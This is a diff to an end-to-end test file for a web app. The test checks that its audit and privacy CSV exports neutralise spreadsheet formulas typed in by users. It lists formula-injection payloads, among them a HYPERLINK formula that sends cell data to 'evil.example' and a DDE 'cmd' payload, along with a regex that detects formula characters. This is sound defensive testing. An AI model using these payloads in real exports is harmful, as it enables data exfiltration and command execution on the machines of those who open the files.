@@ -311,38 +311,53 @@ test('the type of a body is what we read, or 415', async ({ site }) => {
 const cells = text => text.split('\r\n').filter(Boolean).flatMap(line => [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g)]
 	.map(m => m[1] === undefined ? { text: m[2], ours: true } : { text: m[1].replaceAll('""', '"') }));
 
-test('no word of theirs is a formula in a file for a spreadsheet', async ({ site }) => {
-	const writers = execFileSync('sh', ['-c', "grep -lE 'csv_text|csv_end|text/csv' cgi/*/*.c | sort"], { encoding: 'utf8' }).trim().split('\n');
-	assert.deepEqual(writers, ['cgi/action/audit_action.c', 'cgi/lib/csv.c', 'cgi/page/audit_page.c'],
-		'another table for spreadsheets: take it here too, with formulas in every column that somebody types');
+const formulas = ['=HYPERLINK("http://evil.example?"&A1,"x")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', ' =1+1', '\uff1d1+1', '=1\n=2'];
 
-	const formulas = ['=HYPERLINK("http://evil.example?"&A1,"x")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', ' =1+1', '\uff1d1+1', '=1\n=2'];
-	const desk = await signed_in(site, 'pengarah'), admin = await signed_in(site, 'admin');
-	const sent = await report(site, { privacy: 'public' });
-	for (const note of formulas)
-		assert.equal((await desk.post(`/tiket/${sent.number}/catatan`, { ...await desk.keys(`/tiket/${sent.number}`), catatan: note, pembaca: '1' })).status, 303, note);
-	const [[id]] = sql(site, "SELECT id FROM account WHERE login = 'bpbd'"), page = (await admin.get(`/akun/${id}`)).body_text;
-	const keys = Object.fromEntries([...page.matchAll(/<input type="hidden" name="(\w+)" value="([^"]*)"/g)].map(m => [m[1], m[2]]));
-	const [[role, agency]] = sql(site, `SELECT role, g.code FROM account a JOIN agency g ON g.id = a.agency WHERE a.id = ${id}`);
-	const named = await admin.post(`/akun/${id}`, { ...keys, name: '=1+1', role, agency, email: '' });
-	assert.equal(named.status, 303, named.body_text.match(/err-msg.*?<\/p>/g)?.join());
-	assert.equal((await sign_in(client(site), 'bpbd')).status, 303);
-
-	const auditor = await signed_in(site, 'auditor'), { csrf, token } = await auditor.keys('/audit');
-	const file = await auditor.post('/audit/unduh', { csrf, token });
-	assert.equal(file.status, 200);
-	assert.match(file.headers.get('content-type'), /^text\/csv/);
-	assert.match(file.headers.get('content-disposition'), /^attachment; filename="[\w.-]+\.csv"$/);
-	guarded(file, '/audit/unduh');
+// Every cell is a number of ours or a text; none is a formula; and what was typed is there.
+function is_only_text(file, typed, what) {
+	assert.equal(file.status, 200, what);
+	assert.match(file.headers.get('content-type'), /^text\/csv/, what);
+	assert.match(file.headers.get('content-disposition'), /^attachment; filename="[\w.-]+\.csv"$/, what);
+	guarded(file, what);
 	const all = cells(file.body_text);
-	assert.ok(all.length > 1000, `${all.length} cells`);
 	for (const { text, ours } of all)
 		if (ours)
-			assert.match(text, /^\d*$/, 'a cell without quotes that is no number of ours');
+			assert.match(text, /^\d*$/, `${what}: a cell without quotes that is no number of ours`);
 		else
-			assert.doesNotMatch(text, /^[ \t\r\n]*[=+\-@\t\r\uff0b\uff0d\uff1d\uff20]/, 'a formula');
-	for (const what of [...formulas.map(f => f.trim()), '=1+1'])
-		assert.ok(all.some(c => c.text === `'${what}`), `${what} is not in the file`);
+			assert.doesNotMatch(text, /^[ \t\r\n]*[=+\-@\t\r\uff0b\uff0d\uff1d\uff20]/, `${what}: a formula`);
+	for (const formula of typed)
+		assert.ok(all.some(c => c.text === `'${formula.trim()}`), `${what}: ${formula} is not in it`);
+	return all.length;
+}
+
+test('no word of theirs is a formula in a file for a spreadsheet', async ({ site }) => {
+	const writers = execFileSync('sh', ['-c', "grep -lE 'csv_text|csv_end|text/csv' cgi/*/*.c | sort"], { encoding: 'utf8' }).trim().split('\n');
+	assert.deepEqual(writers, ['cgi/action/audit_action.c', 'cgi/lib/csv.c', 'cgi/page/audit_page.c', 'cgi/page/privacy_file.c', 'cgi/page/privacy_page.c'],
+		'another table for spreadsheets: take it here too, with formulas in every column that somebody types');
+
+	// In notes and in an account's name: the record.
+	const desk = await signed_in(site, 'pengarah'), admin = await signed_in(site, 'admin');
+	const sent = await report(site, { privacy: 'public', name: '=2+2', place: '@SUM(2+2)', story: `=HYPERLINK("http://evil.example")${'.'.repeat(20)}` });
+	for (const note of formulas)
+		assert.equal((await desk.post(`/tiket/${sent.number}/catatan`, { ...await desk.keys(`/tiket/${sent.number}`), catatan: note, pembaca: '2' })).status, 303, note);
+	const hidden = text => Object.fromEntries([...text.matchAll(/<input type="hidden" name="(\w+)" value="([^"]*)"/g)].map(m => [m[1], m[2]]));
+	const [[id, role, agency]] = sql(site, "SELECT a.id, role, g.code FROM account a JOIN agency g ON g.id = a.agency WHERE login = 'bpbd'");
+	const named = await admin.post(`/akun/${id}`, { ...hidden((await admin.get(`/akun/${id}`)).body_text), name: '=1+1', role, agency, email: '' });
+	assert.equal(named.status, 303, named.body_text.match(/err-msg.*?<\/p>/g)?.join());
+	assert.equal((await sign_in(client(site), 'bpbd')).status, 303);
+	const auditor = await signed_in(site, 'auditor');
+	const record = await auditor.post('/audit/unduh', await auditor.keys('/audit'));
+	assert.ok(is_only_text(record, ['=1+1'], '/audit/unduh') > 1000);
+
+	// In a report, and in what was said of it: the copy of somebody's data.
+	const { me, code } = sent, own = async (path, fields) => me.post(path, { code, token: (await me.keys('/lapor')).token, ...fields });
+	assert.equal((await own('/lacak/data/minta', { kind: 'access', words: '' })).status, 200);
+	const [[number]] = sql(site, "SELECT s.number FROM subject s JOIN ticket t ON t.id = s.ticket WHERE t.number = '" + sent.number + "'");
+	const path = `/privasi/permintaan/${number}`;
+	for (const [step, fields] of [['kerjakan', {}], ['kabulkan', { reply: 'Silakan.' }]])
+		assert.equal((await admin.post(`${path}/${step}`, { ...hidden((await admin.get(path)).body_text), ...fields })).status, 303, step);
+	const copy = await admin.post(`${path}/unduh`, hidden((await admin.get(path)).body_text));
+	is_only_text(copy, [...formulas, '=2+2', '@SUM(2+2)'], 'a copy of the own data');
 });
 
 // --- files ------------------------------------------------------------------------------
